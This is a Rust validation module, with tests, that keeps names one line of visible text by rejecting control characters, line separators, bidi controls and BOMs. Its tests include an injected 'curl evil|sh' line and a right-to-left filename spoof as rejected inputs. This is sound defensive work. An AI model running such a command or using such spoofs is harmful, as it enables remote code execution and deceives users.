//! What text a name or a description may hold.
//!
//! Names end up in places where a line break or an invisible character does harm: the comment line
//! of an exported shell or Python script, a CSV cell, a log line, the console's tables. So a name is
//! one line of visible text: no control characters (C0, DEL, C1), no Unicode line or paragraph
//! separators, no bidirectional controls (which reorder what a reader sees, "Trojan Source"), no
//! byte-order mark. Descriptions and notes may also hold line breaks and tabs.

/// The first character that may not appear in a one-line name, with its position (counted in
/// characters from 1), if there is one.
fn first_disallowed(text: &str, allow_line_breaks: bool) -> Option<(usize, char)> {
    text.chars()
        .enumerate()
        .find(|(_, c)| !(allow_line_breaks && matches!(c, '\n' | '\t' | '\r')) && disallowed(*c))
        .map(|(i, c)| (i + 1, c))
}

/// Characters no name may hold, and that exports never write raw (`crate::export`): control
/// characters, line and paragraph separators, text-direction controls, the byte-order mark.
pub fn disallowed(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{2028}' | '\u{2029}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

fn describe(position: usize, c: char) -> String {
    let what = match c {
        '\n' | '\r' | '\u{2028}' | '\u{2029}' | '\u{85}' => "a line break",
        '\t' => "a tab",
        '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => "a text-direction control",
        _ => "an invisible control character",
    };
    format!("character {position} is {what} (U+{:04X})", c as u32)
}

/// Why `text` cannot be a name, if it cannot: it must be one line of visible text.
pub fn check_one_line(text: &str) -> Result<(), String> {
    match first_disallowed(text, false) {
        None => Ok(()),
        Some((position, c)) => {
            Err(format!("{}; a name is one line of visible text, remove it.", describe(position, c)))
        }
    }
}

/// Why `text` cannot be a description or notes, if it cannot: line breaks and tabs are fine,
/// other control characters are not.
pub fn check_multi_line(text: &str) -> Result<(), String> {
    match first_disallowed(text, true) {
        None => Ok(()),
        Some((position, c)) => Err(format!("{}; remove it.", describe(position, c))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_one_line_of_visible_text() {
        for good in ["infra-alerts", "Orders (EU) — prod", "émoji 🚨 ok", "日本語", "a b"] {
            assert!(check_one_line(good).is_ok(), "{good}");
        }
        for (bad, needle) in [
            ("x\ncurl evil|sh", "character 2 is a line break (U+000A)"),
            ("x\rY", "line break"),
            ("tab\there", "a tab"),
            ("nul\u{0}", "U+0000"),
            ("del\u{7f}", "U+007F"),
            ("c1\u{85}", "line break"),
            ("ls\u{2028}", "U+2028"),
            ("rtl\u{202e}gnp.exe", "text-direction control"),
            ("iso\u{2066}", "text-direction"),
            ("\u{feff}bom", "U+FEFF"),
        ] {
            let message = check_one_line(bad).expect_err(bad);
            assert!(message.contains(needle), "{bad:?}: {message}");
        }
    }

    #[test]
    fn descriptions_may_break_lines_but_hold_no_other_controls() {
        assert!(check_multi_line("line one\nline two\twith tab\r\n").is_ok());
        assert!(check_multi_line("bell\u{7}").is_err());
        assert!(check_multi_line("bidi\u{202e}").is_err());
    }
}
